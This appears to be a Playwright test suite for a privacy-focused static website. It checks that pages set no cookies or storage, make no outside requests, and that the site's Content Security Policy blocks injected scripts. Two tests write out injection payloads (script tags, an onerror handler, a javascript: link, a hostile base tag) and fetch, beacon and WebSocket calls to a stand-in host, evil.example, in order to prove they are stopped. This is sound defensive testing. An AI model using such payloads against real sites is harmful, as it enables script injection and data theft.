"""A visit leaves no trace: nothing is asked of others, nothing is stored, nothing is let in."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.request import url2pathname

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser.test_pages import ONE_OF_EACH
from tests.browser.traces import NOTHING, stored

WATCH = """
window.stopped = [];
addEventListener("securitypolicyviolation",
  (event) => stopped.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
"""


# Kinds of pages that are judged for other things elsewhere.
ALSO = ("404.html", "about/index.html", "review/index.html", "trainers/index.html")


class Visit:
    """A browser that nobody has used, and all that a site asks of it."""

    def __init__(self, browser: Browser, base: str) -> None:
        self.base = base
        self.context: BrowserContext = browser.new_context()
        self.context.set_default_timeout(15000)
        self.context.add_init_script(WATCH)
        self.asked: list[str] = []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.page: Page = self.context.new_page()

    def open(self, name: str) -> Page:
        """Go to a page."""
        if self.base.startswith("file:") and not Path(url2pathname(self.base[7:]), name).is_file():
            name = name.replace("/index.html", ".html")
        self.page.goto(f"{self.base}/{name}")
        return self.page

    @property
    def elsewhere(self) -> list[str]:
        """What was asked of others."""
        near = (f"{self.base}/", "data:", "blob:")
        return [address for address in self.asked if not address.startswith(near)]


@pytest.fixture(params=["http", "file"])
def visit(request: pytest.FixtureRequest, browser: Browser) -> Iterator[Visit]:
    """A first visit, to the hosted site and to the one opened from a folder."""
    if request.param == "http":
        base: str = request.getfixturevalue("web_address")
    else:
        base = request.getfixturevalue("plain_site").as_uri()
    visit = Visit(browser, base)
    yield visit
    visit.context.close()


def test_a_first_visit_to_any_kind_of_page_stores_nothing_and_asks_nobody_else(
    visit: Visit,
) -> None:
    """Reading, opening the search, printing: none of these is an act that asks for storage."""
    for name in (*ONE_OF_EACH, *ALSO):
        if name == "404.html" and not visit.base.startswith("http"):
            # Only a server can show it.
            continue
        page = visit.open(name)
        if visit.base.startswith("http"):
            assert stored(page) == NOTHING, name
        else:
            # Where pages are files, every file may be an origin of its own, without databases.
            assert page.evaluate("[...Object.keys(localStorage), document.cookie]") == [""], name
        page.emulate_media(media="print")
        page.emulate_media(media="screen")
        assert page.evaluate("stopped") == [], name
    page.pdf()
    assert visit.context.cookies() == []
    assert visit.elsewhere == []


def test_searching_and_answering_ask_nobody_else_and_set_no_cookie(visit: Visit) -> None:
    page = visit.open("quizzes/co-regulation/index.html")
    page.get_by_role("button", name="Search", exact=True).click()
    page.get_by_role("searchbox").press_sequentially("calm")
    page.get_by_role("search").get_by_role("listitem").first.wait_for()
    assert stored(page) == NOTHING
    page.keyboard.press("Escape")
    for group in page.locator("main fieldset").all()[:4]:
        for control in group.locator("input:visible").all()[:1]:
            control.check()
    for button in page.get_by_role("button", name="Check my answer").all():
        if button.is_visible():
            button.click()
    page.pdf()
    assert page.evaluate("stopped") == []
    assert page.evaluate("localStorage.length + sessionStorage.length") > 0
    assert visit.context.cookies() == []
    assert visit.elsewhere == []


def test_what_gets_into_a_page_on_its_way_does_not_run(
    web_address: str, web_site: Path, browser: Browser
) -> None:
    """A school's or a café's network may add scripts and pictures to every page it passes on."""
    added = (
        "<script>window.evil = 1</script><img src=/x.png onerror='window.evil = 2'>"
        "<script src=//evil.example/a.js></script><img src=//evil.example/b.png>"
        "<iframe src=//evil.example/c></iframe><a href='javascript:window.evil = 3' id=added>x</a>"
        "<form action=//evil.example/d id=form></form><base href=//evil.example/>"
    )
    visit = Visit(browser, web_address)
    html = (
        (web_site / "index.html").read_text(encoding="utf-8").replace("<main", added + "<main", 1)
    )
    visit.page.route(
        f"{web_address}/", lambda route: route.fulfill(body=html, content_type="text/html")
    )
    reached: list[str] = []
    visit.page.on("response", lambda response: reached.append(response.url))
    page = visit.open("")
    page.evaluate("document.getElementById('added').click()")
    page.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(200)
    assert page.evaluate("window.evil") is None
    assert page.evaluate("document.baseURI") == page.url == f"{web_address}/"
    assert [address for address in reached if "evil" in address] == []
    stopped = page.evaluate("stopped.map((one) => one.split(' ')[0])")
    assert {"script-src-elem", "script-src-attr", "img-src", "frame-src", "form-action"} <= set(
        stopped
    )
    assert page.evaluate("document.querySelectorAll('a[href]').length") > 10
    visit.context.close()


def test_a_page_from_a_folder_cannot_reach_the_network(folder_site: Path, browser: Browser) -> None:
    """Its policy lets inline scripts run, so what one could send or fetch is stopped instead."""
    visit = Visit(browser, folder_site.as_uri())
    page = visit.open("index.html")
    page.evaluate(
        """() => {
          for (const [name, key] of [["img", "src"], ["script", "src"], ["iframe", "src"],
              ["link", "href"], ["object", "data"], ["video", "src"]]) {
            const element = document.createElement(name);
            if (name === "link") element.rel = "stylesheet";
            element[key] = "https://evil.example/" + name;
            document.body.append(element);
          }
          fetch("https://evil.example/fetch").catch(() => {});
          navigator.sendBeacon("https://evil.example/beacon");
          try { new WebSocket("wss://evil.example/socket"); } catch {}
        }"""
    )
    page.wait_for_timeout(200)
    stopped = page.evaluate("stopped.map((one) => one.split(' ')[1]).sort()")
    for way in ("beacon", "fetch", "img", "link", "script", "video"):
        assert f"https://evil.example/{way}" in stopped
    # Of what is framed, a browser tells the site alone.
    assert stopped.count("https://evil.example") == 2
    assert "wss://evil.example/socket" in stopped
    visit.context.close()
